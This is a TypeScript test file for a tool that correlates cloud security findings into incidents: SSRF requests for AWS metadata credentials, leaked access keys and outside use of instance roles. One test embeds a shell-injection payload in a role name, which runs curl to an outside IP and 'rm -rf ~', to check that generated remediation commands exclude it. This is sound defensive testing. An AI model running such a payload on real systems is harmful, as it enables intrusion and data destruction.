import assert from 'node:assert/strict';
import { test } from 'node:test';
import { stepFromRecord } from './from-finding.ts';
import { buildIncidents } from './incident.ts';
import { selectIncidents } from './select.ts';
import type { Step } from './step.ts';

let line = 0;
function step(f: Record<string, unknown>): Step {
  const s = stepFromRecord(
    { type: 'finding', severity: 'high', confidence: 0.9, title: 't', ...f, rule: { id: f.rule, name: 'n' } },
    { file: 'in.jsonl', line: ++line },
  );
  assert.ok(s);
  return s;
}

const ssrf = (id: string, ip: string, time: string, role = '') =>
  step({
    id,
    rule: 'ssrf-metadata',
    time,
    client: { ip },
    outcome: 'likely-success',
    provider: 'aws',
    target: {
      raw: 'x',
      decoded: 'x',
      path: `/latest/meta-data/iam/security-credentials/${role}`,
      path_class: 'credentials',
    },
    origin: { file: 'access.log', line: line + 1 },
  });
const leak = (id: string, time: string, owner?: string) =>
  step({
    id,
    rule: 'credential-exposure-aws',
    time,
    provider: 'aws',
    secret: {
      kind: 'aws-secret-access-key',
      masked: 'Fake****abcd',
      hash: `hmac-sha256:${id}`,
      ...(owner ? { owner } : {}),
    },
    origin: { file: 'app.log', line: line + 1 },
  });
const use = (id: string, time: string, role: string, ip: string) =>
  step({
    id,
    rule: 'cloud-instance-credentials-outside-use',
    time,
    provider: 'aws',
    principal: role,
    client: { ip },
    resource: { id: 'i-0123456789abcdef0', kind: 'ec2-instance' },
    origin: { event_ids: [`ev-${id}`] },
  });

/** The same step seen on a host (`fleet.host` of the findings store). */
const on = (host: string, s: Step): Step => ({ ...s, host });

test('a link on time alone is made only when one client fits and both share a host, and says so with a low confidence', () => {
  const one = buildIncidents([
    on('web-1', ssrf('s1', '192.0.2.1', '2026-11-21T09:00:00Z')),
    on('web-1', leak('l1', '2026-11-21T09:02:00Z')),
  ]);
  assert.equal(one.length, 1);
  const l = one[0]!.links[0]!;
  assert.equal(l.reason, 'time-proximity');
  assert.equal(l.confidence, 0.3);
  assert.match(l.explanation, /^time only.*host web-1/);
  assert.equal(one[0]!.confidence, 0.3, 'an incident is as sure as its weakest link');
  const two = buildIncidents([
    on('web-1', ssrf('s1', '192.0.2.1', '2026-11-21T09:00:00Z')),
    on('web-1', ssrf('s2', '192.0.2.2', '2026-11-21T09:01:00Z')),
    on('web-1', leak('l1', '2026-11-21T09:02:00Z')),
  ]);
  assert.equal(two.length, 3, 'two clients fit: no guess is made');
  const late = buildIncidents([
    on('web-1', ssrf('s1', '192.0.2.1', '2026-11-21T09:00:00Z')),
    on('web-1', leak('l1', '2026-11-21T09:30:00Z')),
  ]);
  assert.equal(late.length, 2, 'outside the proximity window');
});

test('time alone never joins findings that share nothing: other hosts, or no host, account or other entity named', () => {
  const hosts = buildIncidents([
    on('web-1', ssrf('s1', '192.0.2.1', '2026-11-21T09:00:00Z')),
    on('web-2', leak('l1', '2026-11-21T09:02:00Z')),
  ]);
  assert.equal(hosts.length, 2, 'two hosts');
  assert.deepEqual(
    hosts.flatMap((i) => i.links),
    [],
  );
  const nothing = buildIncidents([ssrf('s1', '192.0.2.1', '2026-11-21T09:00:00Z'), leak('l1', '2026-11-21T09:02:00Z')]);
  assert.equal(nothing.length, 2, 'nothing in common but the time');
  const account = buildIncidents([
    { ...ssrf('s1', '192.0.2.1', '2026-11-21T09:00:00Z'), account: '111122223333' },
    { ...leak('l1', '2026-11-21T09:02:00Z'), account: '111122223333' },
  ]);
  assert.equal(account.length, 1, 'one account');
});

test('a role shared by two sources is not guessed; the same role from one source is linked with the time window', () => {
  const ambiguous = buildIncidents([
    ssrf('s1', '192.0.2.1', '2026-11-21T09:00:00Z', 'web'),
    ssrf('s2', '192.0.2.2', '2026-11-21T09:00:30Z', 'web'),
    use('u1', '2026-11-21T09:20:00Z', 'web', '198.18.0.1'),
  ]);
  assert.equal(ambiguous.find((i) => i.steps.some((s) => s.finding_id === 'u1'))!.steps.length, 1);
  const clear = buildIncidents([
    ssrf('s1', '192.0.2.1', '2026-11-21T09:00:00Z', 'web'),
    use('u1', '2026-11-21T09:20:00Z', 'web', '198.18.0.1'),
  ]);
  assert.equal(clear.length, 1);
  assert.equal(clear[0]!.links[0]!.reason, 'same-role-time-window');
  const tooLate = buildIncidents([
    ssrf('s1', '192.0.2.1', '2026-11-21T09:00:00Z', 'web'),
    use('u1', '2026-11-22T09:20:00Z', 'web', '198.18.0.1'),
  ]);
  assert.equal(tooLate.length, 2, 'past the credentials lifetime');
  const sameIp = buildIncidents([
    ssrf('s1', '192.0.2.1', '2026-11-21T09:00:00Z'),
    use('u1', '2026-11-21T10:00:00Z', 'other', '192.0.2.1'),
  ]);
  assert.equal(sameIp[0]!.links[0]!.reason, 'same-client-ip');
});

test('incidents and their ids do not depend on the order of the input', () => {
  const steps = [
    ssrf('s1', '192.0.2.1', '2026-11-21T09:00:00Z', 'web'),
    ssrf('s0', '192.0.2.1', '2026-11-21T08:59:00Z'),
    leak('l1', '2026-11-21T09:00:02Z', 'role web'),
    use('u1', '2026-11-21T09:20:00Z', 'web', '198.18.0.1'),
    ssrf('x1', '192.0.2.9', '2026-11-21T07:00:00Z'),
  ];
  const a = buildIncidents(steps);
  const b = buildIncidents(steps.slice().reverse());
  assert.deepEqual(b, a);
  const main = a.find((i) => i.steps.length === 4)!;
  assert.equal(main.root_finding_id, 's0', 'the first request is the root');
  assert.match(main.id, /^inc-[0-9a-f]{20}$/);
  assert.deepEqual(
    main.steps.map((s) => s.finding_id),
    ['s0', 's1', 'l1', 'u1'],
  );
  assert.equal(main.severity, 'critical', 'a fetch or leak followed by use of the key');
  assert.deepEqual(
    selectIncidents(a, { id: main.id.slice(0, 10) }).map((i) => i.id),
    [main.id],
  );
  assert.deepEqual(
    selectIncidents(a, { untilMs: Date.parse('2026-11-21T08:00:00Z') }).map((i) => i.steps[0]!.finding_id),
    ['x1'],
  );
});

test('records: events are stepped over, a broken finding names its file and line, hostile roles stay out of commands', () => {
  assert.equal(stepFromRecord({ type: 'event', kind: 'proxy-request' }, { file: 'f', line: 1 }), undefined);
  assert.throws(
    () =>
      stepFromRecord({ type: 'finding', id: 'x', severity: 'loud', rule: { id: 'r' } }, { file: 'f.jsonl', line: 7 }),
    /f\.jsonl:7: a finding record needs/,
  );
  assert.throws(() => stepFromRecord([1], { file: 'f.jsonl', line: 2 }), /f\.jsonl:2: expected a JSON object/);
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell payload, not a template
  const evil = "web$(curl${IFS}198.51.100.1)';rm -rf ~";
  const inc = buildIncidents([
    ssrf('s1', '192.0.2.1', '2026-11-21T09:00:00Z', encodeURIComponent(evil)),
    use('u1', '2026-11-21T09:20:00Z', 'web-ok', '192.0.2.1'),
  ]);
  const cmds = inc[0]!.remediation.flatMap((r) => r.commands).join('\n');
  assert.ok(inc[0]!.roles.includes(evil), 'the role is reported as written');
  assert.ok(!cmds.includes('curl'), 'but not put in a command');
  assert.match(cmds, /--role-name web-ok /);
});

test('a proxy record is a host step: an allowed credentials fetch links to the use of that role, a denied one does not', () => {
  const proxied = (id: string, decision: string) =>
    step({
      id,
      rule: 'proxy-decision',
      time: '2026-11-21T09:00:00Z',
      provider: 'aws',
      origin: { sensor: 'imdsguard-proxy' },
      process: { pid: 77, exe: '/usr/bin/python3', uid: 33 },
      destination: { ip: '169.254.169.254', port: 80 },
      http: { method: 'GET', path: '/latest/meta-data/iam/security-credentials/batch', token: false },
      imds_version: 1,
      decision,
    });
  const allowed = buildIncidents([proxied('p1', 'audit'), use('u1', '2026-11-21T09:30:00Z', 'batch', '198.18.0.9')]);
  assert.equal(allowed.length, 1);
  assert.equal(allowed[0]!.steps[0]!.kind, 'host-fetch');
  assert.equal(allowed[0]!.links[0]!.reason, 'same-role-time-window');
  const denied = buildIncidents([proxied('p1', 'deny'), use('u1', '2026-11-21T09:30:00Z', 'batch', '198.18.0.9')]);
  assert.equal(denied.length, 2);
});
